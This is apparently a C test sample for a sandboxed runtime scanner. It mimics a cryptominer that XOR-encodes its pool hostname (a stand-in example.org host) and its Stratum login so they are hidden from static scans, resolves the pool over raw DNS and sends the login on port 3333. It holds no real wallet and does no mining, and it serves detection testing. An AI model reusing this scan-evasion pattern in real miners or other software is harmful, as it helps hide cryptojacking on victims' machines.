/* A miner that hides from static scans, as real ones do: its pool name and its Stratum
   login are XOR-encoded and decoded only when it runs. Run by the crawl's runtime test
   inside the sandbox, whose sinkhole answers its DNS query and its pool connection. */
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <unistd.h>

static void decode(char *s, size_t n) {
    for (size_t i = 0; i < n; i++) s[i] ^= 0x5a;
}

int main(void) {
    /* "pool", "example", "org" */
    char l1[] = {0x2a, 0x35, 0x35, 0x36, 0};
    char l2[] = {0x3f, 0x22, 0x3b, 0x37, 0x2a, 0x36, 0x3f, 0};
    char l3[] = {0x35, 0x28, 0x3d, 0};
    decode(l1, 4); decode(l2, 7); decode(l3, 3);
    unsigned char q[512], r[512];
    int n = 0;
    q[n++] = 0x12; q[n++] = 0x34; q[n++] = 1; q[n++] = 0; q[n++] = 0; q[n++] = 1;
    for (int i = 0; i < 6; i++) q[n++] = 0;
    const char *labels[] = {l1, l2, l3};
    for (int i = 0; i < 3; i++) {
        q[n++] = strlen(labels[i]);
        memcpy(q + n, labels[i], strlen(labels[i]));
        n += strlen(labels[i]);
    }
    q[n++] = 0; q[n++] = 0; q[n++] = 1; q[n++] = 0; q[n++] = 1;
    int u = socket(AF_INET, SOCK_DGRAM, 0);
    struct sockaddr_in ns = {0};
    ns.sin_family = AF_INET; ns.sin_port = htons(53);
    inet_pton(AF_INET, "9.9.9.9", &ns.sin_addr);
    struct timeval tv = {2, 0};
    setsockopt(u, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    sendto(u, q, n, 0, (struct sockaddr *)&ns, sizeof ns);
    ssize_t got = recv(u, r, sizeof r, 0);
    if (got < 16) return 1;
    char ip[32];
    snprintf(ip, sizeof ip, "%d.%d.%d.%d", r[got - 4], r[got - 3], r[got - 2], r[got - 1]);
    /* The Stratum login line, XOR-encoded: only the running miner has it in clear. */
    char login[] = {
        0x21, 0x78, 0x33, 0x3e, 0x78, 0x60, 0x6b, 0x76, 0x78, 0x30, 0x29, 0x35,
        0x34, 0x28, 0x2a, 0x39, 0x78, 0x60, 0x78, 0x68, 0x74, 0x6a, 0x78, 0x76,
        0x78, 0x37, 0x3f, 0x2e, 0x32, 0x35, 0x3e, 0x78, 0x60, 0x78, 0x36, 0x35,
        0x3d, 0x33, 0x34, 0x78, 0x76, 0x78, 0x2a, 0x3b, 0x28, 0x3b, 0x37, 0x29,
        0x78, 0x60, 0x21, 0x78, 0x36, 0x35, 0x3d, 0x33, 0x34, 0x78, 0x60, 0x78,
        0x0d, 0x78, 0x76, 0x78, 0x2a, 0x3b, 0x29, 0x29, 0x78, 0x60, 0x78, 0x22,
        0x78, 0x27, 0x27, 0x50,
        0};
    size_t len = sizeof login - 1;
    decode(login, len);
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a = {0};
    a.sin_family = AF_INET; a.sin_port = htons(3333);
    inet_pton(AF_INET, ip, &a.sin_addr);
    if (connect(s, (struct sockaddr *)&a, sizeof a) != 0) return 2;
    if (write(s, login, len) < 0) return 3;
    char buf[128];
    (void)read(s, buf, sizeof buf);
    close(s);
    return 0;
}
